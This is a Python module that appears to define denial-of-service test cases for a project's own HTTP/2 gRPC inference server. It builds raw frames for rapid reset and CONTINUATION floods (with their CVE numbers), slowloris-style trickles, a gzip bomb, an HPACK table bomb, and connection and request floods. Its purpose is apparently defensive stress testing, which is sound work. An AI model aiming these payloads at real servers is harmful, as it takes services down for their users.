"""Peers that mean harm, as bytes: what each sends first on a connection, and what over and over.

None of them needs a client library: all of it is frames made by hand.
"""

from __future__ import annotations

import gzip
import struct
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np
from tritonclient.grpc import service_pb2 as pb

from gearshift.core.limits import MIB
from gearshift.http2 import frames
from gearshift.http2.header_blocks import write
from gearshift.rpc.wire import framed

UNARY = b"/inference.GRPCInferenceService/ModelInfer"
STREAM = b"/inference.GRPCInferenceService/ModelStreamInfer"
SMALL, LARGE = "small", "large"
"""The models: one of 30 numbers, and one with answers of 256 KiB."""

GREETING = frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0)
END = frames.END_HEADERS | frames.END_STREAM

Bytes = Callable[[int], bytes]
"""What is sent for the n-th time on a connection."""


@dataclass(frozen=True, slots=True)
class Attack:
    """`connections` at a time, opened anew when they are closed; `first` is sent on each, then
    `then` over and over, `pause` seconds apart. `reads`: what comes back is read."""

    name: str
    what: str
    connections: int
    first: bytes
    then: Bytes = lambda n: b""
    pause: float = 0.0
    reads: bool = True
    http: bool = False


def block(path: bytes = UNARY, *fields: tuple[bytes, bytes]) -> bytes:
    return write(
        (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
            *fields,
        )
    )


BLOCK = block()


def number(n: int) -> int:
    """Of the n-th stream."""
    return 2 * n + 1


def headers(n: int, flags: int = frames.END_HEADERS, fields: bytes = BLOCK) -> bytes:
    return frames.frame(frames.HEADERS, flags, number(n), fields)


def data(n: int, payload: bytes, flags: int = 0) -> bytes:
    parts = []
    for at in range(0, max(1, len(payload)), 16_384):
        part = payload[at : at + 16_384]
        last = at + 16_384 >= len(payload)
        parts.append(frames.frame(frames.DATA, flags if last else 0, number(n), part))
    return b"".join(parts)


def ask(n: int, message: bytes, fields: bytes = BLOCK) -> bytes:
    """A whole call."""
    return headers(n, fields=fields) + data(n, message, frames.END_STREAM)


def request(model: str, rows: int = 1) -> bytes:
    made = pb.ModelInferRequest(model_name=model, id="x")
    made.inputs.add(name="x", datatype="FP32", shape=[rows, 30])
    made.raw_input_contents.append(np.zeros((rows, 30), np.float32).tobytes())
    return bytes(made.SerializeToString())


ONE, MANY = framed(request(SMALL)), framed(request(SMALL, 64))
BIG_ANSWER = framed(request(LARGE, 16))
EMPTY_TENSORS = framed(b"\x2a\x00" * 1_000_000)
BOMB = (
    b"\x01"
    + struct.pack(">L", len(gzip.compress(bytes(200 * MIB))))
    + gzip.compress(bytes(200 * MIB))
)
CLOSED_WINDOW = frames.PREFACE + frames.settings(((frames.INITIAL_WINDOW_SIZE, 0),))
WIDE_WINDOW = (
    frames.PREFACE
    + frames.settings(((frames.INITIAL_WINDOW_SIZE, 2**30),))
    + frames.window_update(0, 2**30)
)
CANCEL = frames.CANCEL
TABLE_BOMB = b"\x40\x04bomb\x7f\xa1\x1e" + b"x" * 4_000
"""A field of 4,000 bytes for the table, as the first of it."""


def reset(n: int) -> bytes:
    return frames.rst_stream(number(n), CANCEL)


def repeated(part: bytes, times: int) -> Bytes:
    whole = part * times
    return lambda n: whole


ATTACKS = (
    Attack("silence", "400 connections that say nothing", 400, b""),
    Attack(
        "slow greeting",
        "the greeting, byte by byte",
        200,
        b"",
        lambda n: GREETING[n % 24 :][:1],
        0.3,
    ),
    Attack(
        "slow headers",
        "a header block, byte by byte",
        200,
        GREETING + frames.head(9_000, frames.HEADERS, 4, 1),
        lambda n: b"\0",
        0.3,
    ),
    Attack(
        "slow messages",
        "20 messages a connection, byte by byte",
        100,
        GREETING + b"".join(headers(n) + data(n, ONE[:20]) for n in range(20)),
        lambda n: data(n % 20, b"x"),
        0.3,
    ),
    Attack(
        "streams without an end",
        "as many calls as may be opened, nothing sent on them",
        100,
        GREETING,
        lambda n: headers(n),
    ),
    Attack(
        "large requests without an end",
        "messages of 8 MiB that lack their last byte",
        50,
        GREETING,
        lambda n: headers(n) + data(n, b"\0" + struct.pack(">L", 8_000_000) + bytes(1_000_000)),
        0.05,
    ),
    Attack(
        "answers into a closed window",
        "answers of 4 MiB, and SETTINGS with a window of 0",
        20,
        CLOSED_WINDOW,
        lambda n: ask(n, BIG_ANSWER),
        0.01,
    ),
    Attack(
        "answers that nobody reads",
        "answers of 4 MiB, the windows wide open, the socket not read",
        20,
        WIDE_WINDOW,
        lambda n: ask(n, BIG_ANSWER),
        0.01,
        reads=False,
    ),
    Attack(
        "answers read byte by byte",
        "a window of one byte more at a time",
        20,
        CLOSED_WINDOW + ask(0, BIG_ANSWER),
        lambda n: frames.window_update(1, 1) * 20,
        0.01,
    ),
    Attack(
        "rapid reset (CVE-2023-44487)",
        "calls opened and cancelled at once",
        4,
        GREETING,
        lambda n: b"".join(headers(50 * n + i) + reset(50 * n + i) for i in range(50)),
    ),
    Attack(
        "made you reset (CVE-2025-8671)",
        "calls that the server has to reset",
        4,
        GREETING,
        lambda n: b"".join(
            ask(50 * n + i, ONE) + frames.window_update(number(50 * n + i), 0) for i in range(50)
        ),
    ),
    Attack(
        "flood of cancellations",
        "whole requests, each cancelled at once",
        4,
        GREETING,
        lambda n: b"".join(ask(20 * n + i, ONE) + reset(20 * n + i) for i in range(20)),
    ),
    Attack(
        "PING flood",
        "PING without end",
        4,
        GREETING,
        repeated(frames.frame(frames.PING, 0, 0, bytes(8)), 500),
    ),
    Attack(
        "SETTINGS flood",
        "SETTINGS without end, 500 calls open",
        4,
        GREETING + b"".join(headers(n) for n in range(500)),
        repeated(frames.settings(((frames.INITIAL_WINDOW_SIZE, 1),) * 100), 20),
    ),
    Attack(
        "PRIORITY flood",
        "PRIORITY without end",
        4,
        GREETING,
        repeated(frames.frame(frames.PRIORITY, 0, 1, bytes(5)), 500),
    ),
    Attack(
        "empty DATA",
        "DATA without a byte",
        4,
        GREETING + headers(0),
        repeated(frames.frame(frames.DATA, frames.PADDED, 1, b"\0"), 500),
    ),
    Attack(
        "CONTINUATION flood (CVE-2024-27316)",
        "a header block without an end",
        4,
        GREETING + headers(0, 0),
        repeated(frames.frame(frames.CONTINUATION, 0, 1, bytes(100)), 100),
    ),
    Attack(
        "windows of one byte",
        "WINDOW_UPDATE of one byte without end",
        4,
        GREETING,
        repeated(frames.window_update(0, 1), 500),
    ),
    Attack(
        "header bomb",
        "a field of 4 KB in the table, thousands of times its index",
        4,
        GREETING,
        lambda n: headers(0, END, BLOCK + TABLE_BOMB) + headers(1, END, BLOCK + b"\xbe" * 10_000),
    ),
    Attack(
        "large metadata",
        "a thousand fields a call",
        4,
        GREETING,
        lambda n: headers(n, END, block(UNARY, *((b"x-%d" % i, b"") for i in range(300)))),
        0.001,
    ),
    Attack(
        "compressed bombs",
        "200 MiB of zeros in 200 KB, as gzip",
        4,
        GREETING,
        lambda n: ask(n, BOMB, block(UNARY, (b"grpc-encoding", b"gzip"))),
        0.02,
    ),
    Attack(
        "four gigabytes announced",
        "a message that says it has 2^32 - 1 bytes",
        4,
        GREETING,
        lambda n: headers(n) + data(n, b"\0\xff\xff\xff\xff" + bytes(1_000)),
        0.001,
    ),
    Attack(
        "a million empty tensors",
        "2 MB that would take 300 when parsed",
        4,
        GREETING,
        lambda n: ask(n, EMPTY_TENSORS),
        0.02,
    ),
    Attack(
        "garbage",
        "TLS, HTTP/1.1 and noise on the gRPC port",
        50,
        b"\x16\x03\x01\x02\x00" + bytes(200),
        lambda n: b"GET / HTTP/1.1\r\n\r\n",
        0.01,
    ),
    Attack(
        "flood of requests",
        "sound requests of 64 rows without a deadline, as fast as they go",
        4,
        WIDE_WINDOW,
        lambda n: b"".join(ask(10 * n + i, MANY) for i in range(10)),
    ),
    Attack(
        "flood in one stream",
        "sound requests in one ModelStreamInfer a connection",
        4,
        WIDE_WINDOW + headers(0, fields=block(STREAM)),
        lambda n: data(0, ONE * 20),
    ),
    Attack("more connections than there may be", "1,500 connections that greet", 1_500, GREETING),
    Attack(
        "connections without end",
        "opened, closed, opened",
        50,
        GREETING + frames.frame(frames.GOAWAY, 0, 0, bytes(8)),
    ),
    Attack(
        "HTTP: slow heads",
        "1,000 requests, byte by byte",
        1_000,
        b"GET /metrics HT",
        lambda n: b"x",
        0.3,
        http=True,
    ),
    Attack(
        "HTTP: nobody reads /metrics",
        "scrapers that ask and do not read",
        300,
        b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 50,
        reads=False,
        http=True,
    ),
    Attack(
        "HTTP: scrapers without end",
        "/metrics, as fast as it comes",
        20,
        b"",
        lambda n: b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n",
        0.005,
        http=True,
    ),
)
